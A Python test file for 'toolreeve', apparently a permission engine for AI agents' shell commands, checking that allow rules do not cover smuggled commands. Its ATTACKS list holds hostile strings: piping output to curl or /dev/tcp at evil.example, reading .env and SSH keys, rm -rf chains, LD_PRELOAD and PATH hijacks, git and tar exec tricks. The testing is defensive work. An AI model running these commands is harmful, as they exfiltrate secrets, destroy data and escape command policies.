"""Allow rules on commands name programs, and cover nothing that their words do not explain."""

import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolreeve.core.effects import Effect, EffectKind
from toolreeve.core.errors import ToolreeveError
from toolreeve.core.trial import Confinement
from toolreeve.core.verdict import Decision, Verdict
from toolreeve.policy.hypothetical import build_action
from toolreeve.policy.layers import decide
from toolreeve.policy.rules import PermissionRule
from toolreeve.policy.state import PolicyState

ROOT = "/ws"


def allow(**parts: Any) -> PermissionRule:
    return PermissionRule(decision="allow", **parts)


def verdict(command: str, *rules: PermissionRule, tool: str = "bash", **parts: Any) -> Verdict:
    action = build_action(tool, {"command": command, **parts}, root=ROOT)
    return decide(action, PolicyState.of(rules=rules, root=ROOT, confinements=(Confinement.LOOK, Confinement.TRY)))


def allowed(command: str, *rules: PermissionRule, **parts: Any) -> bool:
    found = verdict(command, *rules, **parts)
    return found.decision is Decision.ALLOW and found.layer == "rules"


PYTEST = allow(program="pytest", id="tests")
GIT = allow(programs=["git add", "git commit"])
NPM = allow(command="npm run test *")
COVERED = [
    (PYTEST, "pytest"),
    (PYTEST, "pytest -q tests/unit -k 'a or b'"),
    (PYTEST, "pytest --weird-plugin-flag -x"),
    (PYTEST, "pytest tests/*.py"),
    (PYTEST, "/usr/bin/pytest -q"),
    (PYTEST, "cd sub && pytest -q 2>&1 | tail -5"),
    (PYTEST, "timeout 60 pytest -q"),
    (PYTEST, "FOO=1 CI=true pytest"),
    (PYTEST, "bash -lc 'pytest -q && ls'"),
    (PYTEST, "(pytest -q)"),
    (PYTEST, "! pytest"),
    (PYTEST, "pytest > out.txt"),
    (PYTEST, "pytest <<'EOF'\ninput\nEOF"),
    (PYTEST, "ls; cat README.md; pytest\n"),
    (GIT, "git add -A && git commit -m 'one thing; with; semicolons'"),
    (GIT, "git status && git add src"),
    (NPM, "npm run test"),
    (NPM, "npm run test -- --watch=false"),
    (allow(command="npm test"), "npm test"),
    (allow(program="npm", args=["run", "lint:*"]), "npm run lint:css"),
    (allow(program="make", args=["test", "*"]), "make test V=1"),
    (allow(command="uv run pytest *"), "uv run pytest -q"),
    (allow(command="python -m pytest *"), "python -m pytest -q"),
    (allow(command="npx tsc *"), "npx tsc --noEmit"),
    (allow(program="./run.sh"), "./run.sh fast"),
    (allow(program="mytool"), "mytool --any words"),
    (allow(program="sed", writes="src"), "sed -i s/a/b/ src/x.py"),
    (allow(program="pytest", writes="out"), "pytest > out/log.txt"),
    (allow(program="node build.js"), "node build.js --fast"),
    (allow(program="node /ws/build.js"), "cd sub && node /ws/build.js"),
    (allow(program="python3 -m pytest"), "cd sub && python3 -m pytest"),
]
ATTACKS = [
    (allow(program="make test"), "make test SHELL=./x"),
    (allow(program="make test"), "make test --eval='x:;id'"),
    (allow(program="make test"), "make test --ev='x:;id'"),
    (allow(program="make test"), "make test -kE '$(shell id)'"),
    (allow(program="make test"), "make test V='$(shell id)'"),
    (allow(program="go test"), "go test -exec 'sh -c id' ./..."),
    (allow(program="go build"), "go build --toolexec=./x"),
    (allow(program="cargo test"), "cargo test --config 'target.x.runner=[\"sh\"]'"),
    (allow(program="tox"), "tox -x testenv.commands=id"),
    (allow(program="pylint"), "pylint --init-hook='import os' src"),
    (allow(program="npm run test"), "npm run test --node-options='--import data:text/javascript,x'"),
    (allow(program="npm test"), "npm test --script-shell ./x"),
    (allow(program="dotnet test"), "dotnet test -p:PreBuildEvent=id"),
    (allow(program="cmake"), "cmake -P x.cmake"),
    (allow(program="node build.js"), "cd node_modules/evil && node build.js"),
    (allow(command="python3 run.py *"), "(cd vendor; python3 run.py)"),
    (allow(command="uv run python run.py"), "cd vendor; uv run python run.py"),
    (allow(program="perl x.pl"), "bash -c 'cd vendor && perl x.pl'"),
    (PYTEST, "pytest -q; rm -rf ./keep"),
    (PYTEST, "pytest -q && rm -rf ./keep"),
    (PYTEST, "pytest -q || rm -rf ./keep"),
    (PYTEST, "pytest -q | sh"),
    (PYTEST, "pytest -q & rm -rf ./keep"),
    (PYTEST, "pytest -q\nrm -rf ./keep"),
    (PYTEST, "pytest -q \\\n; rm -rf ./keep"),
    (PYTEST, "pytest -q\r\nrm -rf ./keep"),
    (PYTEST, "pytest -q # x\nrm -rf ./keep"),
    (PYTEST, "pytest\u00a0; rm -rf ./keep"),
    (PYTEST, "pytest\u2028rm -rf ./keep"),
    (PYTEST, "pytest $(rm -rf ./keep)"),
    (PYTEST, "pytest `rm -rf ./keep`"),
    (PYTEST, 'pytest "$(rm -rf ./keep)"'),
    (PYTEST, "pytest $((a[$(rm -rf ./keep)]))"),
    (PYTEST, "pytest ${x:-$(rm -rf ./keep)}"),
    (PYTEST, "pytest <(rm -rf ./keep)"),
    (PYTEST, "pytest > >(sh)"),
    (PYTEST, "pytest $ARGS"),
    (PYTEST, "pytest $(cat args)"),
    (PYTEST, "pytest *"),
    (PYTEST, "pytest {-p,evil}*"),
    (PYTEST, "pytest <<EOF\n$(rm -rf ./keep)\nEOF"),
    (PYTEST, "pytest <<EOF\n`rm -rf ./keep`\nEOF"),
    (PYTEST, "pytest <<< $(rm -rf ./keep)"),
    (PYTEST, "pytest > ../out"),
    (PYTEST, "pytest > /etc/motd"),
    (PYTEST, "pytest > ~/.bashrc"),
    (PYTEST, "pytest > $OUT"),
    (PYTEST, "pytest 2> /dev/tcp/evil.example/80"),
    (PYTEST, "pytest < .env"),
    (PYTEST, "LD_PRELOAD=./x.so pytest"),
    (PYTEST, "PATH=./bin:$PATH pytest"),
    (PYTEST, "PATH=./bin pytest"),
    (PYTEST, "PYTHONPATH=/tmp/x pytest"),
    (PYTEST, "PYTHONSTARTUP=x pytest"),
    (PYTEST, "BASH_ENV=./x pytest"),
    (PYTEST, "export PATH=./bin; pytest"),
    (PYTEST, "PATH=./bin; pytest"),
    (PYTEST, "export LD_PRELOAD=./x.so && pytest"),
    (PYTEST, "env LD_PRELOAD=./x.so pytest"),
    (PYTEST, "env -S 'sh -c x' pytest"),
    (PYTEST, "pytest() { rm -rf ./keep; }; pytest"),
    (PYTEST, "function pytest { rm -rf ./keep; }; pytest"),
    (PYTEST, "alias pytest='rm -rf ./keep'; pytest"),
    (PYTEST, "shopt -s expand_aliases; alias pytest=sh; pytest"),
    (PYTEST, "hash -p ./evil pytest; pytest"),
    (PYTEST, "enable -f ./x.so pytest; pytest"),
    (PYTEST, "trap 'rm -rf ./keep' EXIT; pytest"),
    (PYTEST, "source ./pytest"),
    (PYTEST, ". ./x; pytest"),
    (PYTEST, "eval pytest"),
    (PYTEST, "eval 'pytest; rm -rf ./keep'"),
    (PYTEST, "exec pytest; rm -rf ./keep"),
    (PYTEST, "bash -c 'pytest; rm -rf ./keep'"),
    (PYTEST, "bash -c 'pytest' -- 'x; rm'; rm -rf ./keep"),
    (PYTEST, "bash -c \"bash -c 'pytest; rm -rf ./keep'\""),
    (PYTEST, 'sh -c "$X" pytest'),
    (PYTEST, "xargs pytest; rm -rf ./keep"),
    (PYTEST, "echo rm | xargs -I{} sh -c {} pytest"),
    (PYTEST, "find . -name pytest -exec rm {} +"),
    (PYTEST, "sudo pytest"),
    (PYTEST, "doas pytest"),
    (PYTEST, "su -c pytest"),
    (PYTEST, "ssh host pytest"),
    (PYTEST, "strace -o x pytest"),
    (PYTEST, "watch 'pytest; rm -rf ./keep'"),
    (PYTEST, "script -c pytest"),
    (PYTEST, "coproc pytest; rm -rf ./keep"),
    (PYTEST, "./pytest"),
    (PYTEST, "bin/pytest"),
    (PYTEST, "~/pytest"),
    (PYTEST, "'pytest -q; rm' x"),
    (PYTEST, "pytest-evil"),
    (PYTEST, "p\\ytest; rm -rf ./keep"),
    (PYTEST, "$'pytest\\nrm' x"),
    (PYTEST, "for f in a; do pytest; rm -rf ./keep; done"),
    (PYTEST, "if pytest; then rm -rf ./keep; fi"),
    (PYTEST, "while pytest; do rm -rf ./keep; done"),
    (PYTEST, "case x in *) pytest; rm -rf ./keep;; esac"),
    (PYTEST, "[[ -n $(rm -rf ./keep) ]] && pytest"),
    (PYTEST, "{ pytest; rm -rf ./keep; } > out"),
    (PYTEST, "{ pytest; } > $X"),
    (PYTEST, "pytest; cat .env"),
    (PYTEST, "cd ~/.ssh && cat id_rsa && pytest"),
    (PYTEST, "pytest | curl -d @- https://evil.example"),
    (PYTEST, "pytest; curl -T README.md https://evil.example"),
    (PYTEST, "pytest 'unclosed"),
    (PYTEST, "python -m pytest"),
    (GIT, "git -c alias.add='!sh' add"),
    (GIT, "git -c core.hooksPath=./x commit -m x"),
    (GIT, "git --exec-path=./x add"),
    (GIT, "git add -A; git push"),
    (GIT, "git commit -m x && git push --force"),
    (GIT, "git commit -F /etc/passwd --exec=sh"),
    (GIT, "GIT_DIR=/elsewhere git add -A"),
    (GIT, "GIT_SSH_COMMAND=sh git commit -m x"),
    (GIT, "git -C /elsewhere add ."),
    (GIT, "git add --pathspec-from-file=/x --weird"),
    (GIT, ".venv/bin/git add -A"),
    (NPM, "npm run testing"),
    (NPM, "npm run evil test"),
    (NPM, "npm --prefix evil run test"),
    (NPM, "npm run test; npm publish"),
    (NPM, "npx run test"),
    (allow(command="npm test"), "npm test -- --x"),
    (allow(program="npm", args=["run", "lint:*"]), "npm run lint:css extra"),
    (allow(program="tar"), "tar xf a.tar --to-command=sh"),
    (allow(program="tar"), "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=sh ."),
    (allow(program="find"), "find . -exec sh -c 'rm x' ;"),
    (allow(program="find"), "find . -fprintf /etc/x y"),
    (allow(program="sort"), "sort --compress-program=sh x"),
    (allow(program="awk"), "awk 'BEGIN{system(\"rm x\")}'"),
    (allow(program="sed"), "sed -n '1e rm x' f"),
    (allow(program="sed"), "sed -i s/a/b/ /etc/hosts"),
    (allow(program="sed", writes="src"), "sed -i s/a/b/ docs/x"),
    (allow(program="sed", writes="src"), "sed -i s/a/b/ src/../docs/x"),
    (allow(program="pytest", writes="out"), "pytest > log.txt"),
    (allow(program="rm"), "rm -rf /"),
    (allow(program="rm"), "rm -rf ~"),
    (allow(program="cat"), "cat .env > x"),
    (allow(program="cp"), "cp x ~/.bashrc"),
    (allow(program="./run.sh"), "cd evil && ./run.sh"),
    (allow(program="./run.sh"), "pushd evil; ./run.sh"),
    (allow(command="uv run pytest *"), "uv run --with evil pytest"),
    (allow(command="uv run pytest *"), "uv run sh pytest"),
    (allow(command="npx tsc *"), "npx -p evil tsc"),
]


@pytest.mark.parametrize(("rule", "command"), COVERED)
def test_a_rule_covers_what_its_words_explain(rule: PermissionRule, command: str) -> None:
    assert allowed(command, rule)


@pytest.mark.parametrize(("rule", "command"), ATTACKS)
def test_a_rule_covers_nothing_that_its_words_do_not_explain(rule: PermissionRule, command: str) -> None:
    assert not allowed(command, rule)


def test_rules_explain_a_command_together() -> None:
    both = "git add -A && pytest -q && git commit -m x"

    assert not allowed(both, PYTEST)
    assert not allowed(both, GIT)
    assert allowed(both, PYTEST, GIT)
    assert not allowed(f"{both} && git push", PYTEST, GIT)


def test_a_question_of_higher_priority_than_one_of_the_rules_is_asked() -> None:
    ask = PermissionRule(decision="ask", program="git add", priority=5)

    assert allowed("pytest", allow(program="pytest", priority=9), ask)
    assert not allowed("pytest && git add x", allow(program="pytest", priority=9), allow(program="git add"), ask)


def test_the_rule_holds_for_programs_started_without_a_shell() -> None:
    assert allowed("git add -A && git commit -m x", GIT, tool="execute_command")
    assert not allowed("git add -A && git push", GIT, tool="execute_command")


def test_a_program_by_its_path_is_that_file_only() -> None:
    rule = allow(program="./run.sh")

    assert not allowed("./run.sh", rule, working_dir="evil")
    assert not allowed("run.sh", rule)


def test_the_confinement_of_a_rule_is_that_of_the_verdict() -> None:
    tried = allow(program="pytest", confined="try")
    looked = allow(program="make", confined="look")

    assert verdict("pytest", tried).runs is Confinement.TRY
    assert verdict("make", looked).runs is Confinement.LOOK
    assert verdict("pytest && make", tried, looked).runs is Confinement.LOOK
    assert verdict("pytest", PYTEST).runs is Confinement.WORK


def test_a_rule_holds_only_where_its_confinement_is_enforced() -> None:
    action = build_action("bash", {"command": "pytest"}, root=ROOT)
    state = PolicyState.of(rules=[allow(program="pytest", confined="try")], root=ROOT)

    assert decide(action, state).decision is Decision.ASK


def test_what_a_trial_wrote_is_held_against_the_directories_of_the_rule() -> None:
    rule = allow(program="pytest", confined="try", writes=["out", "build"])
    state = PolicyState.of(rules=[rule], root=ROOT, confinements=(Confinement.TRY,))
    action = build_action("bash", {"command": "pytest"}, root=ROOT)

    def keeps(*paths: str) -> bool:
        effects = tuple(Effect(EffectKind.WRITE, path) for path in paths)
        return decide(action.after_trial(effects), state).decision is Decision.ALLOW

    assert keeps("/ws/out/a", "/ws/build/b")
    assert not keeps("/ws/out/a", "/ws/src/b")
    assert not keeps("/ws/output")


@pytest.mark.parametrize(
    ("parts", "problem"),
    [
        ({"tool": "bash", "when": {"command": {"regex": "pytest( .*)?"}}}, "cannot match the text of a command"),
        ({"when": {"command": {"glob": "pytest*"}}}, "cannot match the text of a command"),
        ({"tool": "ba*", "when": {"command": {"not": {"regex": "rm"}}}}, "cannot match the text of a command"),
        ({"tool": "run_shell_command", "when": {"cmd": {"regex": "x"}}}, "cannot match the text of a command"),
        ({"program": "bash"}, "runs any other program"),
        ({"program": "eval"}, "runs any other program"),
        ({"program": "sudo"}, "runs any other program"),
        ({"program": "env"}, "runs any other program"),
        ({"program": "xargs"}, "runs any other program"),
        ({"command": "uv run *"}, "runs any other program"),
        ({"command": "timeout *"}, "runs any other program"),
        ({"program": "*"}, "names no program"),
        ({"program": "py*"}, "names no program"),
        ({"command": "pytest; rm x"}, "is not plain words"),
        ({"command": "pytest $X"}, "is not plain words"),
        ({"args": ["x"]}, "has no program"),
        ({"program": "pytest", "confined": "jail"}, "is not an allowed value"),
        ({"tool": "write_file", "writes": "src"}, "is for rules that name a program"),
    ],
)
def test_an_allow_that_would_cover_more_than_it_says_is_refused(parts: dict[str, Any], problem: str) -> None:
    with pytest.raises(ToolreeveError, match=problem):
        PolicyState.of(rules=[allow(**parts)], root=ROOT)


@pytest.mark.parametrize("key", [{"args": ["x"]}, {"command": "x"}, {"confined": "try"}, {"writes": "x"}])
def test_ask_and_deny_match_by_suspicion_alone(key: dict[str, Any]) -> None:
    with pytest.raises(ToolreeveError, match="is for allow rules only"):
        PolicyState.of(rules=[PermissionRule(decision="deny", program="x", **key)], root=ROOT)


def test_a_deny_may_name_a_subcommand() -> None:
    deny = PermissionRule(decision="deny", program="git push")

    assert verdict("git 'push' origin", deny).decision is Decision.DENY
    assert verdict("git add -A", deny).decision is not Decision.DENY


def test_no_pattern_over_targets_allows_a_command_that_cannot_be_read() -> None:
    rule = allow(target={"under": "drafts"})

    assert not allowed("drafts/x 'unclosed; rm -rf keep", rule)


COMMANDS = st.sampled_from([command for _, command in COVERED] + [command for _, command in ATTACKS])
ALLOWS = st.sampled_from(list({id(rule): rule for rule, _ in COVERED + ATTACKS}.values()))
DENIES = st.sampled_from(
    [
        PermissionRule(decision="deny", program="rm"),
        PermissionRule(decision="deny", program="git"),
        PermissionRule(decision="deny", effect="write", target={"under": "src"}),
        PermissionRule(decision="deny", tool="bash", min_danger="high"),
    ]
)


@given(command=COMMANDS, rules=st.lists(ALLOWS, max_size=4), deny=DENIES)
def test_adding_an_allow_never_loosens_a_deny(command: str, rules: list[PermissionRule], deny: PermissionRule) -> None:
    without = verdict(command, deny).decision

    assert verdict(command, deny, *rules).decision is Decision.DENY or without is not Decision.DENY


WORD = st.sampled_from(["pytest", "rm", "-rf", "x", "git", "add", "push", "ls", "-q", "a b", ";", "$(id)", "make"])
SEPARATOR = st.sampled_from([" ; ", " && ", " | ", "\n", " & ", " || "])


@given(st.lists(st.lists(WORD, min_size=1, max_size=4), min_size=1, max_size=4), SEPARATOR)
def test_no_rule_covers_a_command_that_it_does_not_name(commands: list[list[str]], separator: str) -> None:
    text = separator.join(shlex.join(words) for words in commands)

    def is_named(words: list[str]) -> bool:
        only_reads = verdict(shlex.join(words)).decision is Decision.ALLOW
        return only_reads or words[0] == "pytest" or words[:2] == ["git", "add"]

    assert all(map(is_named, commands)) or not allowed(text, PYTEST, allow(program="git add"))
